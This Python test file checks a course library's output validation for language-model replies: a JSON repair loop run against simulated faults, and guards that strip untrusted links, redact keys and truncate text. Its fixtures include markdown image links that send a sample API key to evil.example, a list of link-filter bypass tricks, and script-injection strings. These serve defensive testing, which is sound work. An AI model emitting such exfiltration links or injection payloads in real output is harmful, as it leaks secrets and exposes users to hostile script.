"""Output validation: the repair loop against the simulator's bad-output faults, and safe text."""

from __future__ import annotations

from typing import Literal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import BaseModel

from course_lib.clock import VirtualClock
from course_lib.events import LinkRemoved, OutputVerdict, Recorder, Redacted, RepairAttempt, Truncated
from course_lib.llm import make_async_client, make_client
from course_lib.output_validation import (ModelRefused, OutputGuard, OutputRejected, Problem, StructuredOutput, judge,
                                          remove_untrusted_links, safe_html, truncate_tokens)
from course_lib.sim import SimProvider, count_tokens

ASK = [{"role": "user", "content": "Summarise the status of order 4471 as JSON."}]
KEY = "sk-proj-" + "Ab3dE5gH7jK9mN1pQ3sT5vX7zB9cD1fG3hJ5kL7n" + "T3BlbkFJ" + "Qr2St4Uv6Wx8Yz0Ab2Cd4Ef6Gh8Ij0Kl2Mn4Op6Qr8St"


class OrderStatus(BaseModel):
    order_id: str
    status: Literal["paid", "shipped", "delivered", "delayed"]
    items: list[str]
    late: bool


def provider_with(faults: list[dict], seed: int = 3) -> SimProvider:
    return SimProvider({"seed": seed, "faults": faults}, clock=VirtualClock())


# --- judging one reply ------------------------------------------------------------------------
def test_judge_names_each_problem() -> None:
    good = '{"order_id": "4471", "status": "shipped", "items": ["boots"], "late": false}'
    assert judge(good, "stop", OrderStatus) == OrderStatus(order_id="4471", status="shipped", items=["boots"], late=False)
    assert judge(good, "length", OrderStatus) == Problem("length", "the reply was cut off by max_tokens before it was complete")
    assert judge('{"order_id": "4471",', "stop", OrderStatus).kind == "invalid-json"
    problem = judge('{"order_id": "4471", "status": "lost", "items": [], "late": false}', "stop", OrderStatus)
    assert isinstance(problem, Problem) and problem.kind == "schema" and problem.detail.startswith("status: ")


# --- the repair loop against the simulator ----------------------------------------------------
def test_a_valid_reply_is_accepted_on_the_first_attempt() -> None:
    recorder = Recorder()
    provider = provider_with([])
    result = StructuredOutput(OrderStatus, on_event=recorder).create(make_client(provider), model="gpt-4o-mini", messages=ASK)
    assert isinstance(result.value, OrderStatus) and result.attempts == 1
    assert result.prompt_tokens == provider.log[0].prompt_tokens
    assert result.completion_tokens == provider.log[0].completion_tokens
    assert [(e.outcome, e.attempts) for e in recorder.of(OutputVerdict)] == [("accepted", 1)]


@pytest.mark.parametrize("fault", [{"kind": "invalid_json"}, {"kind": "schema_violation", "violation": "wrong_type"},
                                   {"kind": "schema_violation", "violation": "missing_field"},
                                   {"kind": "truncated"}])
def test_a_bad_first_reply_is_repaired_and_every_attempt_is_counted(fault: dict) -> None:
    """Each call takes 1 s (a latency fault), so only the first meets the bad-output fault."""
    recorder = Recorder()
    provider = provider_with([{**fault, "end": 0.5}, {"kind": "latency", "seconds": 1}])
    result = StructuredOutput(OrderStatus, on_event=recorder).create(make_client(provider), model="gpt-4o-mini",
                                                                     messages=ASK)
    problem = {"invalid_json": "invalid-json", "schema_violation": "schema", "truncated": "length"}[fault["kind"]]
    repairs = recorder.of(RepairAttempt)
    assert result.attempts == 2 and [(r.attempt, r.problem) for r in repairs] == [(1, problem)]
    assert [c.fault for c in provider.log] == [fault["kind"], None]
    assert result.prompt_tokens == sum(c.prompt_tokens for c in provider.log)
    assert result.completion_tokens == sum(c.completion_tokens for c in provider.log)
    assert provider.log[1].prompt_tokens > provider.log[0].prompt_tokens  # the repair re-sends the bad reply
    assert [e.outcome for e in recorder.of(OutputVerdict)] == ["repaired"]


def test_after_the_last_repair_the_output_is_rejected_with_every_problem() -> None:
    recorder = Recorder()
    provider = provider_with([{"kind": "invalid_json"}])
    with pytest.raises(OutputRejected) as caught:
        StructuredOutput(OrderStatus, max_repairs=2, on_event=recorder).create(
            make_client(provider), model="gpt-4o-mini", messages=ASK)
    assert [p.kind for p in caught.value.problems] == ["invalid-json"] * 3 == [r.problem for r in recorder.of(RepairAttempt)] + ["invalid-json"]
    assert caught.value.prompt_tokens == sum(c.prompt_tokens for c in provider.log) and provider.calls() == 3
    assert [(e.outcome, e.attempts) for e in recorder.of(OutputVerdict)] == [("rejected", 3)]


def test_a_refusal_is_its_own_outcome_and_is_not_repaired() -> None:
    recorder = Recorder()
    provider = provider_with([{"kind": "refusal", "message": "I can't share that."}])
    with pytest.raises(ModelRefused) as caught:
        StructuredOutput(OrderStatus, on_event=recorder).create(make_client(provider), model="gpt-4o", messages=ASK)
    assert caught.value.refusal == "I can't share that." and caught.value.attempts == 1 and provider.calls() == 1
    assert recorder.of(RepairAttempt) == [] and [e.outcome for e in recorder.of(OutputVerdict)] == ["refused"]


async def test_the_async_client_gets_the_same_loop() -> None:
    provider = provider_with([{"kind": "invalid_json"}])
    with pytest.raises(OutputRejected) as caught:
        await StructuredOutput(OrderStatus, max_repairs=1).acreate(make_async_client(provider), model="gpt-4o-mini",
                                                                   messages=ASK)
    assert len(caught.value.problems) == 2 and provider.calls() == 2


def test_max_repairs_is_checked() -> None:
    with pytest.raises(ValueError, match="max_repairs must be a whole number >= 0, got -1"):
        StructuredOutput(OrderStatus, max_repairs=-1)


# --- links and images -------------------------------------------------------------------------
def test_images_and_links_to_outside_hosts_are_removed_and_reported() -> None:
    removed: list[tuple[str, str]] = []
    text = (f"See ![status](https://evil.example/p.png?d={KEY}) and [our docs](https://docs.shop.test/returns), "
            "[a trap](https://evil.example/x), <https://evil.example/auto> and ![ref][pixel].\n\n"
            "[pixel]: https://tracker.example/p.gif\n")
    safe = remove_untrusted_links(text, ["shop.test"], lambda kind, host: removed.append((kind, host)))
    assert KEY not in safe and "evil.example" not in safe and "tracker.example" not in safe
    assert "[our docs](https://docs.shop.test/returns)" in safe and "a trap" in safe
    assert sorted(removed) == sorted([("image", "evil.example"), ("link", "evil.example"), ("link", "evil.example"),
                                      ("image", "tracker.example"), ("definition", "tracker.example")])


URLS = st.sampled_from(["https://evil.example/a?q=1", "http://x.evil.example/p.png", "https://shop.test/ok",
                        "//evil.example/p", "javascript:alert(1)", "/relative/page", "https://shop.test.evil.example/"])
PIECES = st.one_of(st.sampled_from(["text ", "**bold** ", "\n\n", "`code` "]),
                   st.builds(lambda u, t: f"[{t}]({u}) ", URLS, st.sampled_from(["a", "b c"])),
                   st.builds(lambda u: f"![img]({u}) ", URLS), st.builds(lambda u: f"<{u}> ", URLS),
                   st.builds(lambda u: f"![r][x] [s][x]\n\n[x]: {u}\n\n", URLS))


def _urls_a_renderer_would_use(markdown: str) -> list[str]:
    urls = []
    for token in MarkdownIt("commonmark").parse(markdown):
        for child in token.children or []:
            if child.type == "link_open":
                urls.append(str(child.attrs["href"]))
            if child.type == "image":
                urls.append(str(child.attrs["src"]))
    return urls


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=8))
def test_after_removal_a_markdown_renderer_finds_no_untrusted_url(pieces: list[str]) -> None:
    safe = remove_untrusted_links("".join(pieces), ["shop.test"])
    for url in _urls_a_renderer_would_use(safe):
        assert url.startswith(("https://shop.test/", "/relative")), url


def test_safe_html_escapes_raw_html_and_keeps_allowed_links() -> None:
    html = safe_html("Hi <script>alert(1)</script> <img src=x onerror=alert(1)> "
                     "[docs](https://shop.test/help) ![](https://evil.example/p.png)", ["shop.test"])
    assert "<script" not in html and "<img" not in html and "evil.example" not in html
    assert '<a href="https://shop.test/help" rel="noopener noreferrer">docs</a>' in html


# --- guard: links, redaction, then tokens -----------------------------------------------------
def test_the_guard_redacts_before_it_truncates_and_reports_each_step() -> None:
    recorder = Recorder()
    text = "Your order shipped. " * 3 + f"The key is {KEY} and the pixel ![x](https://evil.example/?k={KEY})."
    limit = count_tokens("Your order shipped. " * 3 + "The key is", "gpt-4o") + 3
    guarded = OutputGuard(model="gpt-4o", max_tokens=limit, on_event=recorder).check(text)
    assert "sk-proj" not in guarded.text and guarded.truncated and guarded.links_removed == 1 and guarded.redacted == 1
    assert count_tokens(guarded.text, "gpt-4o") <= limit
    assert [type(e) for e in recorder.events] == [LinkRemoved, Redacted, Truncated]


def test_truncate_tokens_never_splits_a_character() -> None:
    text = "Hé 😀 wörld 🦩🦩 done " * 5
    for limit in range(1, count_tokens(text, "gpt-4o") + 2):
        cut, was_cut = truncate_tokens(text, "gpt-4o", limit)
        assert text.startswith(cut) and count_tokens(cut, "gpt-4o") <= limit
        assert was_cut == (cut != text)


# --- what an outside review tried -------------------------------------------------------------
E = "https://evil.example/p.png?d=SECRET"
TRICKS = ["![![x](https://evil.example/1)](https://evil.example/2)", "[[a](https://evil.example/1)](https://evil.example/2)",
          f"![a [b] c]({E})", f"[![alt](/ok.png)]({E})", "![a](https&#58;//evil.example/x)",
          "![a](https&colon;//evil.example/x)", f"![a][r]\n\n> [r]: {E}", f"![a][r]\n\n- [r]: {E}",
          f"![a][x\\]y]\n\n[x\\]y]: {E}", f"![a](x ![b]({E})", f'<img src="{E}">', "![a](/\\evil.example/p.png)",
          "![a](\\\\evil.example/p.png)", "![a](HTTPS://EVIL.EXAMPLE/p.png)", "![a](//evil.example/p.png)",
          "![a](data:image/png;base64,AAAA)", "![a](java\tscript:alert(1))", "[t](https://evil.example/p(1).png) x"]


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_leaves_an_outside_url_a_permissive_renderer_would_use(trick: str) -> None:
    safe = remove_untrusted_links(trick, ["shop.test"])
    tokens = MarkdownIt("commonmark").parse(safe)  # raw HTML allowed, as some renderers do
    raw_html = [t.content for b in tokens for t in [b, *(b.children or [])] if t.type.startswith("html")]
    assert raw_html == [], raw_html
    for url in _urls_a_renderer_would_use(safe):
        assert url.startswith(("https://shop.test/", "/ok.png")) and "\\" not in url, (safe, url)


def test_a_key_spelled_with_character_references_or_invisible_characters_is_still_redacted() -> None:
    for hidden in (KEY.replace("-", "&#45;"), KEY.replace("proj", "pro\u200bj"), KEY.replace("-", "&#x2D;")):
        guarded = OutputGuard(model="gpt-4o", max_tokens=500).check(f"key: {hidden}")
        assert guarded.redacted == 1 and "T3BlbkFJ" not in guarded.text and KEY not in safe_html(guarded.text)


def test_a_refusal_carries_the_tokens_it_cost() -> None:
    provider = provider_with([{"kind": "refusal"}])
    with pytest.raises(ModelRefused) as caught:
        StructuredOutput(OrderStatus).create(make_client(provider), model="gpt-4o", messages=ASK)
    assert (caught.value.prompt_tokens, caught.value.completion_tokens) == (provider.log[0].prompt_tokens,
                                                                           provider.log[0].completion_tokens) != (0, 0)


def test_misuse_gets_a_clear_error() -> None:
    provider = provider_with([])
    with pytest.raises(TypeError, match="await acreate"):
        StructuredOutput(OrderStatus).create(make_async_client(provider), model="gpt-4o", messages=ASK)
    with pytest.raises(ValueError, match="stream must be off"):
        StructuredOutput(OrderStatus).create(make_client(provider), model="gpt-4o", messages=ASK, stream=True)
    with pytest.raises(ValueError, match="model must be one of"):
        OutputGuard(model="gpt-5", max_tokens=10)
    with pytest.raises(ValueError, match="allowed_hosts must be a collection of host names"):
        OutputGuard(model="gpt-4o", max_tokens=10, allowed_hosts="shop.test")
    with pytest.raises(ValueError, match="max_tokens must be a whole number >= 0, got -1"):
        truncate_tokens("text", "gpt-4o", -1)
    assert provider.calls() == 0


def test_a_cut_never_ends_inside_a_placeholder() -> None:
    text = "Call us. Or mail ada@example.org today."
    for limit in range(1, count_tokens(text, "gpt-4o") + 1):
        guarded = OutputGuard(model="gpt-4o", max_tokens=limit).check(text)
        assert "ada@" not in guarded.text and not guarded.text.endswith(("[", "[R", "[REDACT", "[REDACTED:em"))
        assert "[" not in guarded.text or "[REDACTED:email]" in guarded.text
